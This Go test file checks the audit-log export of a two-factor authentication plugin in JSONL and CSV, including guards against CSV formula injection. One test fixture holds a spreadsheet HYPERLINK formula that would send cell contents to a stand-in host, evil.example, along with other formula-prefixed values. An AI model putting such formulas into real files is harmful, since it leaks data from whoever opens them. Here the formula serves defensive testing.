package audit

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"reflect"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/caddy-twofactor/twofactor/store"
)

func TestFormat(t *testing.T) {
	for in, want := range map[string]Format{"": JSONL, "jsonl": JSONL, "csv": CSV} {
		if got, err := ParseFormat(in); err != nil || got != want {
			t.Errorf("ParseFormat(%q) = %q, %v; want %q", in, got, err, want)
		}
	}
	for _, in := range []string{"CSV", "json", "xlsx", " csv"} {
		_, err := ParseFormat(in)
		var fe *FieldError
		if !errors.As(err, &fe) || fe.Field != "format" || !strings.Contains(err.Error(), fmt.Sprintf("%q", in)) {
			t.Errorf("ParseFormat(%q) = %v, want a format error naming the value", in, err)
		}
	}
	at := time.Date(2026, 12, 5, 15, 0, 59, 0, time.FixedZone("JST", 9*3600))
	if got := JSONL.FileName(at); got != "two-factor-audit-20261205T0600Z.jsonl" {
		t.Errorf("JSONL.FileName = %q", got)
	}
	if got := CSV.FileName(at); got != "two-factor-audit-20261205T0600Z.csv" {
		t.Errorf("CSV.FileName = %q", got)
	}
	if JSONL.ContentType() != "application/jsonl; charset=utf-8" || CSV.ContentType() != "text/csv; charset=utf-8" {
		t.Errorf("content types %q, %q", JSONL.ContentType(), CSV.ContentType())
	}
}

func TestCSVSafe(t *testing.T) {
	for in, want := range map[string]string{"alice": "alice", "": "", "=cmd()": "'=cmd()", "+1": "'+1", "-x": "'-x",
		"@a": "'@a", "\tx": "'\tx", "\rx": "'\rx", "a=b": "a=b", "'=x": "'=x"} {
		if got := CSVSafe(in); got != want {
			t.Errorf("CSVSafe(%q) = %q, want %q", in, got, want)
		}
	}
}

// hostile is a record whose every text field tries to break a CSV or a
// spreadsheet: formulas, separators, quotes, line breaks, bytes that are
// not UTF-8.
func hostile(i int) Record {
	return Record{Time: epoch.Add(time.Duration(i) * time.Minute), Event: "verify", Result: "wrong",
		Member: `=HYPERLINK("http://evil.example/?"&A1,"x")`, Actor: "+1+1", IP: "192.0.2.9",
		Browser: "a,b \"quoted\"\nsecond line\r", Method: "@SUM(1)",
		Details: map[string]string{"zeta": "-2", "alpha": "x\xffy", "=k": "v;w"}}
}

// collectQuery pages through Query to the end.
func collectQuery(t *testing.T, tr *Trail, f Filter) []Entry {
	t.Helper()
	var all []Entry
	for after := ""; ; {
		p, err := tr.Query(t.Context(), f, after, 7)
		if err != nil {
			t.Fatal(err)
		}
		all = append(all, p.Records...)
		if p.Next == "" {
			return all
		}
		after = p.Next
	}
}

func exportJSONL(t *testing.T, tr *Trail, f Filter) []Entry {
	t.Helper()
	var buf bytes.Buffer
	n, err := tr.Export(t.Context(), f, JSONL, &buf)
	if err != nil {
		t.Fatal(err)
	}
	var out []Entry
	for _, line := range strings.SplitAfter(buf.String(), "\n") {
		if line == "" {
			continue
		}
		if !strings.HasSuffix(line, "\n") {
			t.Fatalf("last line %q has no newline", line)
		}
		var r jsonlRecord
		dec := json.NewDecoder(strings.NewReader(line))
		dec.DisallowUnknownFields()
		if err := dec.Decode(&r); err != nil {
			t.Fatalf("line %q: %v", line, err)
		}
		out = append(out, Entry{ID: r.ID, Record: r.Record})
	}
	if n != len(out) {
		t.Fatalf("Export says %d records, wrote %d lines", n, len(out))
	}
	return out
}

// A JSONL export holds what Query gives, oldest first across instances,
// under the same filters.
func TestExportJSONL(t *testing.T) {
	eachBackend(t, func(t *testing.T, b *backend) {
		a := twoInstances(t, b, 40, func(i int, r *Record) {
			if i%4 == 0 {
				*r = hostile(i)
			}
		})
		for _, f := range []Filter{
			{},
			{Member: "bob"},
			{Result: "wrong"},
			{Since: epoch.Add(10 * time.Minute), Until: epoch.Add(21 * time.Minute)},
			{Event: "verify", IP: "192.0.2.1", Member: "carol"},
			{Actor: "+1+1", Since: epoch.Add(30 * time.Minute)},
			{Event: "reset"},
		} {
			got := exportJSONL(t, a, f)
			want := collectQuery(t, a, f)
			slices.Reverse(want)
			if len(got)+len(want) > 0 && !reflect.DeepEqual(got, want) {
				t.Errorf("Export(%+v) = %d records, want the %d Query gives, reversed:\n%+v\n%+v", f, len(got), len(want), got, want)
			}
			for i := 1; i < len(got); i++ {
				if got[i].Record.Time.Before(got[i-1].Record.Time) {
					t.Errorf("Export(%+v): record %d is older than the one before", f, i)
				}
			}
		}
		all := exportJSONL(t, a, Filter{})
		if len(all) != 40 || all[0].Record.Instance != "a" || all[1].Record.Instance != "b" {
			t.Fatalf("export of everything: %d records, first from %s then %s", len(all), all[0].Record.Instance, all[1].Record.Instance)
		}
		if d := all[0].Record.Details; d["alpha"] != "x\uFFFDy" || d["=k"] != "v;w" {
			t.Errorf("hostile details came back as %q", d)
		}
	})
}

// A CSV export parses back with encoding/csv to the same records, every
// cell safe to open in a spreadsheet.
func TestExportCSV(t *testing.T) {
	eachBackend(t, func(t *testing.T, b *backend) {
		tr := newTrail(t, b, "a")
		appendN(t, tr, 12, func(i int) Record {
			if i%3 == 0 {
				return hostile(i)
			}
			return members(i)
		})
		var buf bytes.Buffer
		n, err := tr.Export(t.Context(), Filter{}, CSV, &buf)
		if err != nil {
			t.Fatal(err)
		}
		rd := csv.NewReader(&buf)
		rows, err := rd.ReadAll()
		if err != nil {
			t.Fatalf("CSV does not parse back: %v", err)
		}
		if n != 12 || len(rows) != 13 || !reflect.DeepEqual(rows[0], CSVColumns) {
			t.Fatalf("%d records, %d rows, header %q", n, len(rows), rows[0])
		}
		want := exportJSONL(t, tr, Filter{})
		for i, row := range rows[1:] {
			for j, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("row %d column %s: %q could run as a formula", i, CSVColumns[j], cell)
				}
				if !strings.Contains(cell, "\uFFFD") && strings.ToValidUTF8(cell, "") != cell {
					t.Errorf("row %d column %s: %q is not UTF-8", i, CSVColumns[j], cell)
				}
			}
			r := want[i].Record
			unguard := func(s string) string { return strings.TrimPrefix(s, "'") }
			got := []string{row[0], row[1], row[2], row[3], row[4], unguard(row[5]), unguard(row[6]), row[7], row[8], unguard(row[9])}
			exp := []string{r.Time.Format(time.RFC3339Nano), "a", want[i].ID, r.Event, r.Result, r.Member, r.Actor, r.IP, r.Browser, r.Method}
			if !reflect.DeepEqual(got, exp) {
				t.Errorf("row %d = %q, want %q", i, got, exp)
			}
			// The details parse back as JSON to the record's, whatever
			// their keys and values hold.
			var details map[string]string
			if row[10] != "" {
				if err := json.Unmarshal([]byte(row[10]), &details); err != nil {
					t.Errorf("row %d details %q: %v", i, row[10], err)
				}
			}
			if len(details)+len(r.Details) > 0 && !reflect.DeepEqual(details, r.Details) {
				t.Errorf("row %d details = %q, want %q", i, details, r.Details)
			}
		}
		h := rows[1]
		if h[5] != `'=HYPERLINK("http://evil.example/?"&A1,"x")` || h[6] != "'+1+1" || h[9] != "'@SUM(1)" ||
			h[8] != "a,b \"quoted\"\nsecond line\r" || h[10] != "{\"=k\":\"v;w\",\"alpha\":\"x\uFFFDy\",\"zeta\":\"-2\"}" {
			t.Errorf("hostile row = %q", h)
		}
		if rows[2][10] != "" {
			t.Errorf("a record without details has details %q", rows[2][10])
		}
		// Filters narrow a CSV export as they do a JSONL one.
		buf.Reset()
		if n, err := tr.Export(t.Context(), Filter{Member: "m4"}, CSV, &buf); err != nil || n != 1 || strings.Count(buf.String(), "\n") != 2 {
			t.Fatalf("Export(member m4) = %d, %v:\n%s", n, err, buf.String())
		}
	})
}

// With nothing to export, CSV is its header alone and JSONL is empty;
// refused arguments write nothing.
func TestExportEmptyAndRefused(t *testing.T) {
	b := openBolt(t)
	tr := newTrail(t, b, "a")
	var buf bytes.Buffer
	if n, err := tr.Export(t.Context(), Filter{}, CSV, &buf); err != nil || n != 0 || buf.String() != strings.Join(CSVColumns, ",")+"\n" {
		t.Fatalf("empty trail as CSV: %d, %v, %q", n, err, buf.String())
	}
	appendN(t, tr, 3, members)
	buf.Reset()
	if n, err := tr.Export(t.Context(), Filter{Member: "nobody"}, JSONL, &buf); err != nil || n != 0 || buf.Len() != 0 {
		t.Fatalf("no match as JSONL: %d, %v, %q", n, err, buf.String())
	}
	for _, tc := range []struct {
		f      Filter
		format Format
		field  string
	}{
		{Filter{}, "xml", "format"},
		{Filter{}, "", "format"},
		{Filter{IP: "nope"}, CSV, "ip"},
		{Filter{Event: "A B"}, JSONL, "event"},
		{Filter{Result: "OK"}, JSONL, "result"},
		{Filter{Since: epoch, Until: epoch.Add(-time.Hour)}, CSV, "since"},
	} {
		buf.Reset()
		_, err := tr.Export(t.Context(), tc.f, tc.format, &buf)
		var fe *FieldError
		if !errors.As(err, &fe) || fe.Field != tc.field || buf.Len() != 0 {
			t.Errorf("Export(%+v, %q) = %v, wrote %d bytes; want a %s error and nothing written", tc.f, tc.format, err, buf.Len(), tc.field)
		}
	}
}

// heapWatch discards what is written to it and keeps the largest live
// heap (after a collection) seen while it was written to.
type heapWatch struct {
	bytes, writes int
	peak          uint64
}

func (h *heapWatch) Write(p []byte) (int, error) {
	h.bytes += len(p)
	h.writes++
	if h.writes%500 == 0 {
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		h.peak = max(h.peak, m.HeapAlloc)
	}
	return len(p), nil
}

// Exporting 50,000 records holds a chunk of the log at a time: the heap
// stays far below the size of what is written.
func TestExportStreams(t *testing.T) {
	if testing.Short() {
		t.Skip("writes 50,000 records")
	}
	b := openBolt(t)
	tr := newTrail(t, b, "a")
	appendN(t, tr, 1, members) // lists the instance
	const n = 50000
	note := strings.Repeat("n", 1000)
	b.rewrite(t, logName("a"), func([]store.LogEntry) []store.LogEntry {
		out := make([]store.LogEntry, 0, n)
		prev := genesis(key, "a")
		for i := range n {
			r := members(i)
			r.Instance, r.Details = "a", map[string]string{"note": note}
			rec, _ := json.Marshal(r)
			s := stored{N: uint64(i + 1), Prev: prev, Record: rec, MAC: mac(key, prev, uint64(i+1), rec)}
			v, _ := json.Marshal(s)
			out = append(out, store.LogEntry{ID: store.FormatLogID(uint64(epoch.UnixMilli())+uint64(i), 0), Value: v})
			prev = s.MAC
		}
		return out
	})
	tr = newTrail(t, b, "a")
	// bbolt's page buffers from writing the log outlive a collection or
	// two (a sync.Pool): what counts is the heap above where it settles.
	var base runtime.MemStats
	for range 3 {
		runtime.GC()
	}
	runtime.ReadMemStats(&base)
	w := &heapWatch{}
	got, err := tr.Export(t.Context(), Filter{}, JSONL, w)
	if err != nil || got != n {
		t.Fatalf("Export = %d, %v; want %d", got, err, n)
	}
	grew := int64(w.peak) - int64(base.HeapAlloc)
	t.Logf("wrote %d MB; live heap %d MB before, at most %d MB above that", w.bytes>>20, base.HeapAlloc>>20, grew>>20)
	if w.bytes < n*1000 || grew > 16<<20 {
		t.Fatalf("wrote %d bytes with up to %d bytes more live: the export does not stream", w.bytes, grew)
	}
	var tail bytes.Buffer
	if got, err := tr.Export(t.Context(), Filter{Since: epoch.Add((n - 2) * time.Minute)}, CSV, &tail); err != nil || got != 2 {
		t.Fatalf("the last two of %d: %d, %v", n, got, err)
	}
}
